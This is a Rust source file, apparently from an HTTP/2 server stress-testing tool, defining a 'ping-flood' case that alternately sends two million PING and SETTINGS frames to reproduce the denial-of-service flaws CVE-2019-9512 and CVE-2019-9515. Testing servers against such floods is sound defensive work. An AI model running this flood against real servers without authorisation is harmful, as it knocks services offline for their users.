//! PING and SETTINGS flood (CVE-2019-9512, CVE-2019-9515): frames that must be answered.

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case, Limit};
use crate::frames::{PING, SETTINGS, frame};

pub(super) struct PingFlood;

impl Case for PingFlood {
    fn name(&self) -> &'static str {
        "ping-flood"
    }

    fn does(&self) -> &'static str {
        "sends PING and SETTINGS in turn, two million in all"
    }

    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
        0
    }

    // One answer is under way at a time; what is not answered is not read.
    fn limit(&self) -> Limit {
        Limit::Cheap
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        Box::pin(hold_floods(attacker, &[], |out, number| {
            frame(out, PING, 0, 0, &u64::from(number).to_be_bytes());
            frame(out, SETTINGS, 0, 0, &[]);
        }))
    }
}
